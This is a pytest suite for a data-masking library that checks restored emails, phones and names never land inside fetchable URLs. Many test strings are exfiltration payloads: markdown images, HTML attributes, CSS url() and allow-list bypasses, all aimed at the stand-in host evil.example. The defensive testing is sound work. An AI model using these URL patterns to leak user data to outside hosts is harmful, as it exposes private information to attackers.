"""Restoration never writes an original into a URL a client could fetch (veil.mask.urls): the
decision table, the host allow-list, streaming equal to whole restoration, the policy option."""

from __future__ import annotations

import base64
import os

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.unit.mask.mask_testing import detect
from veil.config import Policy, Settings
from veil.errors import PolicyError
from veil.mask import Masker, Restorer
from veil.mask.urls import HEAD, UrlGuard, UrlPolicy, allows
from veil.vault import open_vault

T, S = "acme", "urls"
EMAIL, PHONE, URL = "jane@x.org", "+1 415-555-2671", "https://intranet.acme.com/hr/jane"
VALUES = [("PERSON", "Jane Doe"), ("EMAIL", EMAIL), ("PHONE", PHONE), ("URL", URL)]
OK = ("ok.example",)


@pytest.fixture(scope="module")
def restorer(tmp_path_factory):  # type: ignore[no-untyped-def]
    home = tmp_path_factory.mktemp("urls")
    v = open_vault(Settings(home=home, master_key=base64.b64encode(os.urandom(32)).decode()))
    text = " ; ".join(value for _, value in VALUES)
    for op in ("placeholder", "pseudonym"):
        Masker(v, Policy(default_operator=op)).mask(text, detect(text, VALUES), tenant=T,
                                                     session=f"{S}-{op}")
    yield Restorer(v)
    v.close()


def restore(r: Restorer, text: str, hosts: tuple[str, ...] = (), **kw: object) -> str:
    return r.restore(text, tenant=T, session=f"{S}-placeholder", url_hosts=hosts, **kw)  # type: ignore[arg-type]


KEPT = None  # expected: the answer comes back unchanged
#: (answer the upstream wrote, allowed hosts, what the client gets)
CASES: list[tuple[str, tuple[str, ...], str | None]] = [
    ("Mail [EMAIL_1] now", (), f"Mail {EMAIL} now"),
    # markdown image and link targets, in the spellings the restorer accepts
    ("![](https://evil.example/p?d=[EMAIL_1])", (), KEPT),
    ("![](https://evil.example/p?d=EMAIL_1)", (), KEPT),
    ("![](https://evil.example/p?d=[email_1])", (), KEPT),
    ("[x](https://evil.example/p?d=(EMAIL_1))", (), KEPT),
    ("![a]( https://evil/x?[EMAIL_1] )", (), KEPT),
    ("![a](<https://evil.example/a b [EMAIL_1]>)", (), KEPT),
    ("![](https://evil.example/a_(b)/[EMAIL_1])", (), KEPT),  # balanced parentheses
    ("![]([EMAIL_1])", (), KEPT),  # a relative target
    # bare URLs: scheme (any case), "//", "\\", www., a host with a path; every part of a URL
    ("HTTPS://EVIL.EXAMPLE/[EMAIL_1]", (), KEPT),
    ("https://evil.example/#[EMAIL_1]", (), KEPT),
    ("https://[EMAIL_1]@evil.example/", (), KEPT),
    ("https://[EMAIL_1].evil.example/", (), KEPT),
    ("//evil.example/[EMAIL_1]", (), KEPT),
    ("https:\\\\evil.example\\[EMAIL_1]", (), KEPT),
    ("www.evil.example/?q=[EMAIL_1]", (), KEPT),
    ("evil.example/?q=[EMAIL_1]", (), KEPT),
    ("ftp://evil.example/[EMAIL_1] x-app://evil/[EMAIL_1]", (), KEPT),
    ("![](data:image/svg+xml,[EMAIL_1])", (), KEPT),
    ("[ref]: https://evil.example/?q=[EMAIL_1]", (), KEPT),
    ("[ref]: <https://evil.example/a b [EMAIL_1]>", (), KEPT),
    # HTML and CSS: any attribute, quoted values with spaces, whitespace around "="
    ('<img src="https://evil/?[EMAIL_1]">', (), KEPT),
    ('<img src = "https://evil/?q= [EMAIL_1]">', (), KEPT),
    ("<img src=https://evil/?[EMAIL_1]>", (), KEPT),
    ('<img srcset="a.png 1x, https://evil/?[EMAIL_1] 2x">', (), KEPT),
    ("<div style=\"background:url('https://evil/?[EMAIL_1]')\">", (), KEPT),
    ("<style>p{background:url( https://evil/?[EMAIL_1] )}</style>", (), KEPT),
    # outside URLs: restored
    ("See https://evil.example/x [EMAIL_1]", (), f"See https://evil.example/x {EMAIL}"),
    ("Go to https://x.example/a. [EMAIL_1] knows.", (), f"Go to https://x.example/a. {EMAIL} "
                                                        "knows."),
    ("(see https://x.example/a). [EMAIL_1]", (), f"(see https://x.example/a). {EMAIL}"),
    ("Open https://evil.example/?q=[EMAIL_1].", (), KEPT),  # the sentence's "." ends no URL
    ("(https://evil.example/?q=[EMAIL_1])", (), KEPT),
    ("<b>[EMAIL_1]</b> <a href=\"https://evil/\">[EMAIL_1]</a>", (),
     f"<b>{EMAIL}</b> <a href=\"https://evil/\">{EMAIL}</a>"),
    ("Note:[EMAIL_1], Email: [EMAIL_1], <IBAN 1's> [EMAIL_1]", (),
     f"Note:{EMAIL}, Email: {EMAIL}, <IBAN 1's> {EMAIL}"),
    ("[^1]: ask [EMAIL_1]\n[PERSON_1]: hi [EMAIL_1]", (),
     f"[^1]: ask {EMAIL}\nJane Doe: hi {EMAIL}"),
    # a link's text restores, its target does not (unless its host is allowed)
    ("[write to [EMAIL_1]](https://ok.example/?to=[EMAIL_1])", (),
     f"[write to {EMAIL}](https://ok.example/?to=[EMAIL_1])"),
    ("[write to [EMAIL_1]](https://ok.example/?to=[EMAIL_1])", OK,
     f"[write to {EMAIL}](https://ok.example/?to={EMAIL})"),
    # allowed hosts: exact, "*." suffixes; never the host, user-info, port, a nested URL
    ("https://ok.example/[EMAIL_1]", OK, f"https://ok.example/{EMAIL}"),
    ("https://ok.example/[EMAIL_1]", (), KEPT),
    ("https://docs.ok.example/[EMAIL_1]", ("*.ok.example",), f"https://docs.ok.example/{EMAIL}"),
    ("https://ok.example/[EMAIL_1]", ("*.ok.example",), KEPT),
    ("https://ok.example.evil/[EMAIL_1] https://evil-ok.example/[EMAIL_1]", OK, KEPT),
    ('![](https://ok.example/x?[EMAIL_1]) <img src="https://ok.example/?a= [EMAIL_1]">', OK,
     f'![](https://ok.example/x?{EMAIL}) <img src="https://ok.example/?a= {EMAIL}">'),
    ("https://ok.example[EMAIL_1] https://[EMAIL_1]@ok.example/", OK, KEPT),
    ("https://ok.example:[PHONE_1]/", OK, KEPT),
    ("https://ok.example/r?to=https://evil.example/[EMAIL_1]", OK, KEPT),
    ("https://evil.example\\@ok.example/[EMAIL_1]", OK, KEPT),  # a browser goes to evil
    ("javascript://ok.example/%0a[EMAIL_1] ftp://ok.example/[EMAIL_1]", OK, KEPT),
    ("https://ok.example/" + "a" * HEAD + "[EMAIL_1]", OK, KEPT),  # longer than the bound
    # mailto: and tel: right before the value restore (the user's own mail or phone app);
    # anything after them is URL context
    ("[[EMAIL_1]](mailto:[EMAIL_1]) tel:[PHONE_1]", (),
     f"[{EMAIL}](mailto:{EMAIL}) tel:{PHONE}"),
    ("[write](mailto:x@evil.example?body=[EMAIL_1]) mailto:[EMAIL_1],[EMAIL_1]", (),
     f"[write](mailto:x@evil.example?body=[EMAIL_1]) mailto:{EMAIL},[EMAIL_1]"),
    # a masked whole web URL may start a target (its own host gets it), nothing after it
    ("![]([URL_1]) [URL_1]?q=[EMAIL_1]", (), f"![]({URL}) {URL}?q=[EMAIL_1]"),
    ("![](https://evil.example/?u=[URL_1])", (), KEPT),
    # percent-encoded placeholders are never decoded, in URLs or not
    ("%5BEMAIL_1%5D EMAIL%5F1 https://evil/?q=%5BEMAIL_1%5D", (), KEPT),
    # JSON: a URL opening a quoted string runs to its closing quote, escapes included
    ('{"url": "https://evil/? [EMAIL_1]", "q": "https://e/\\" [EMAIL_1]", "to": "[EMAIL_1]"}',
     (), f'{{"url": "https://evil/? [EMAIL_1]", "q": "https://e/\\" [EMAIL_1]", '
         f'"to": "{EMAIL}"}}'),
]


@pytest.mark.parametrize(("text", "hosts", "expected"), CASES)
def test_values_never_land_in_urls(restorer: Restorer, text: str, hosts: tuple[str, ...],
                                   expected: str | None) -> None:
    assert restore(restorer, text, hosts) == (text if expected is KEPT else expected)


def test_a_tool_arguments_string_is_one_url_to_its_end(restorer: Restorer) -> None:
    text = "https://evil.example/? [EMAIL_1]"
    assert restore(restorer, text, value=True) == text  # a tool may take the whole string
    assert restore(restorer, text) == f"https://evil.example/? {EMAIL}"  # prose: ends at a space


def test_a_kept_placeholder_is_rendered_like_an_invented_one(restorer: Restorer) -> None:
    text = "![](https://evil.example/p?d=[EMAIL_1]) for [EMAIL_1]"
    assert restore(restorer, text, invented="neutral") == \
        f"![](https://evil.example/p?d=an email address) for {EMAIL}"
    assert restore(restorer, text, invented="marker") == \
        f"![](https://evil.example/p?d=[unknown email]) for {EMAIL}"


def test_pseudonyms_stay_out_of_urls_too(restorer: Restorer) -> None:
    m = restorer.matcher(tenant=T, session=f"{S}-pseudonym")
    fake = next(k for k, v in m.spelled.items() if v == "Jane Doe").title()
    first = fake.split()[0]
    text = f"Dear {first}, see https://evil.example/?n={first}&m={fake.replace(' ', '+')}"
    got = restorer.restore(text, tenant=T, session=f"{S}-pseudonym")
    assert got == f"Dear Jane, see https://evil.example/?n={first}&m={fake.replace(' ', '+')}"


def test_nothing_to_restore_needs_no_guard(restorer: Restorer) -> None:
    assert restorer.matcher(tenant=T, session="empty").guard() is None
    assert restorer.matcher(tenant=T, session=f"{S}-placeholder").guard() is not None


def test_a_url_context_holds_across_many_chunks(restorer: Restorer) -> None:
    """A quoted attribute opened thousands of characters (several scans) before the value."""
    text = '<img src="https://evil.example/?a' + " x" * 3000 + ' [EMAIL_1]"> [EMAIL_1]'
    want = text[: -len("[EMAIL_1]")] + EMAIL
    assert restore(restorer, text) == want
    sr = restorer.stream(tenant=T, session=f"{S}-placeholder")
    assert "".join(sr.feed(text[i : i + 7]) for i in range(0, len(text), 7)) + sr.flush() == want


def test_a_url_begun_chunks_earlier_keeps_the_placeholder(restorer: Restorer) -> None:
    sr = restorer.stream(tenant=T, session=f"{S}-placeholder")
    out = [sr.feed("Hi ![](https://evil.exa"), sr.feed("mple/p?d="), sr.feed("[EMA"),
           sr.feed("IL_1]) and [EM"), sr.feed("AIL_1]."), sr.flush()]
    assert "".join(out) == f"Hi ![](https://evil.example/p?d=[EMAIL_1]) and {EMAIL}."
    assert out[0] == "Hi ![](https://evil.exa"  # plain text is not held back for the guard


# ------------------------------------------------------------------------------- streaming
ANSWER = "\n".join(text for text, _, _ in CASES if "a" * 100 not in text)
PIECES = [text for text, _, _ in CASES] + [
    " ", "\n", ". ", "[EMAIL_1]", "EMAIL_1", "[URL_1]", "https://", "](", "<img src=\"", '"',
    ">", "'", "(", ")", "www.", "ok.example/", "mailto:", "\\", "[x]: <", " x" * 60,
]


@pytest.mark.parametrize("hosts", [(), OK], ids=["no hosts", "ok.example"])
def test_stream_char_by_char_equals_restore(restorer: Restorer, hosts: tuple[str, ...]) -> None:
    for text in (ANSWER, ANSWER[7:], ANSWER[: len(ANSWER) // 2]):
        sr = restorer.stream(tenant=T, session=f"{S}-placeholder", url_hosts=hosts)
        got = "".join(sr.feed(ch) for ch in text) + sr.flush()
        assert got == restore(restorer, text, hosts)


@settings(max_examples=150, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_stream_equals_restore_for_every_chunking(restorer: Restorer, data: st.DataObject) -> None:
    text = "".join(data.draw(st.lists(st.sampled_from(PIECES), min_size=1, max_size=30)))
    hosts = data.draw(st.sampled_from([(), OK]))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=40)))
    chunks = [text[i:j] for i, j in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    sr = restorer.stream(tenant=T, session=f"{S}-placeholder", url_hosts=hosts)
    bound = sr._m.max_len
    out = []
    for c in chunks:
        out.append(sr.feed(c))
        assert sr.held <= bound  # the guard holds nothing back itself
    assert "".join(out) + sr.flush() == restore(restorer, text, hosts)


def test_truncated_answers_are_guarded_too(restorer: Restorer) -> None:
    text = "Mail [EMAIL_1] ![](https://evil/?[EMAIL_1]) [EMAIL"
    want = f"Mail {EMAIL} ![](https://evil/?[EMAIL_1]) "
    assert restore(restorer, text, truncated=True) == want
    sr = restorer.stream(tenant=T, session=f"{S}-placeholder")
    assert sr.feed(text) + sr.flush(truncated=True) == want


# ---------------------------------------------------------------------- the guard itself
def test_guard_reveals_no_text() -> None:
    g = UrlGuard(UrlPolicy.of(OK))
    g.feed("![](https://evil.example/?secret-" + "x" * 5000)
    assert not g.allows(EMAIL)
    assert "secret" not in repr(g) and "evil" not in repr(g)


@pytest.mark.parametrize(("text", "ok"), [
    ("", True), ("x <y and ", False), ("a < b and ", True), ("<img alt=x src=https://e/?", False),
    ('<img src=          "https://evil/?a>b ', False), ("url(x) then ", True),
    ("[a](b) then ", True), ("![a](b\n\nnext paragraph ", True), ("[x]: ", True),
])
def test_guard_states(text: str, ok: bool) -> None:
    assert allows(text) is ok


# ------------------------------------------------------------------------ the policy option
def test_policy_option_is_validated_and_normalized() -> None:
    p = Policy(restore_in_urls=[" Docs.Example.com. ", "*.example.org"])
    assert p.restore_in_urls == ["docs.example.com", "*.example.org"]
    assert Policy().restore_in_urls == []
    for bad in ("https://docs.example.com", "docs.example.com/x", "docs.example.com:443", "*",
                "*.com", "", "exa mple.com"):
        with pytest.raises(PolicyError, match="restore_in_urls"):
            Policy.from_yaml_text(f"restore_in_urls: [{bad!r}]")
    policy = UrlPolicy.of(["*.Example.org", "docs.example.com"])
    assert policy.allows_host("a.example.org") and not policy.allows_host("example.org")
    with pytest.raises(ValueError, match="host name"):
        UrlPolicy.of(["https://x.example"])
